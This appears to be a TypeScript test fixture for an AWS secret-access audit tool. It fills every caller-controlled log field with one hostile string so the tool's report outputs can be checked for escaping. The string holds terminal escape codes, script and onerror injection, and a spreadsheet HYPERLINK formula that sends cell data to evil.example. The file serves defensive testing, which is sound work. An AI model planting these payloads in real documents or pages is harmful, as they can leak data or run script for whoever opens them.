/** Results of audits for tests of reports: what a stranger can write, he has written. */
import type { AuditedAccess } from '../../src/lib/audit/access.ts';
import type { AuditResult } from '../../src/lib/audit/audit.ts';
import type { Finding } from '../../src/lib/audit/detectors/detector.ts';
import { openReport, reported, type ReportFormat } from '../../src/lib/audit/reports/index.ts';
import { ACCOUNT, ARN, audited, groupsOf, NAME, type Json, type Told } from './trail.ts';

/** What acts on a terminal, in HTML, in a spreadsheet, in Markdown, in a shell. */
export const HOSTILE =
  '\u001b[2J\u202e=HYPERLINK("http://evil.example/?"&A1)\r\n\u0007</title></style></svg>--><script>alert(1)</script><img src=x onerror=alert(1)>" onload="x" [click](https://evil.example) {0} `x` ;@SUM(1)';

/** An access in which everything that a caller writes is hostile. */
export const hostileAccess = (members: Json = {}, explanation: Told | null = null): AuditedAccess => ({
  ...audited(
    {
      userAgent: HOSTILE,
      eventName: HOSTILE,
      sourceIPAddress: HOSTILE,
      errorCode: `AccessDenied${HOSTILE}`,
      errorMessage: HOSTILE,
      requestID: HOSTILE,
      awsRegion: HOSTILE,
      vpcEndpointId: HOSTILE,
      userIdentity: { type: HOSTILE, arn: HOSTILE, accountId: HOSTILE, accessKeyId: `AKIA${HOSTILE}` },
      ...members,
    },
    explanation,
  ),
  secret: `arn:aws:secretsmanager:us-east-1:${ACCOUNT}:secret:${HOSTILE}-AbCdEf`,
  secretName: HOSTILE,
});

/** A finding about accesses. */
export function findingOf(accesses: readonly AuditedAccess[], members: Partial<Finding> = {}): Finding {
  return {
    id: `unknown-principal:${HOSTILE}`,
    severity: 'high',
    title: `${HOSTILE} made an access`,
    why: HOSTILE,
    fix: HOSTILE,
    eventIds: accesses.map(({ eventId }) => eventId),
    count: accesses.length,
    technique: 'T1555.006',
    ...members,
  };
}

/** The result of an audit that has seen these accesses. */
export const resultOf = (accesses: readonly AuditedAccess[], members: Partial<AuditResult> = {}): AuditResult => ({
  secret: { name: NAME, arn: ARN, store: 'aws' },
  asked: [],
  window: { since: '2026-11-15T00:00:00.000Z', until: '2026-11-22T00:00:00.000Z' },
  sources: [{ kind: 'lookup-events', region: 'us-east-1', account: ACCOUNT, events: accesses.length, complete: true }],
  accesses: [...accesses],
  total: accesses.length,
  principals: groupsOf(accesses),
  findings: [],
  suppressed: [],
  unexplained: accesses.filter(({ explanation }) => explanation === null).length,
  skipped: [],
  ...members,
});

/** A report of a result, made as an audit makes it. */
export async function reportOf(
  format: ReportFormat,
  result: AuditResult,
  records: readonly AuditedAccess[] = result.accesses,
): Promise<string> {
  let text = '';
  const report = await openReport(format, { version: '1.2.3', now: Date.UTC(2026, 10, 22) });
  const out = {
    write: (more: string) => {
      text += more;
      return Promise.resolve();
    },
    commit: () => Promise.resolve(Buffer.byteLength(text)),
    discard: () => Promise.resolve(),
  };
  await reported(report, out, async ({ emit, inspect }) => {
    for (const access of records) {
      inspect?.(access, () => []);
      if (!access.context) await emit?.(access);
    }
    return result;
  });
  return text;
}
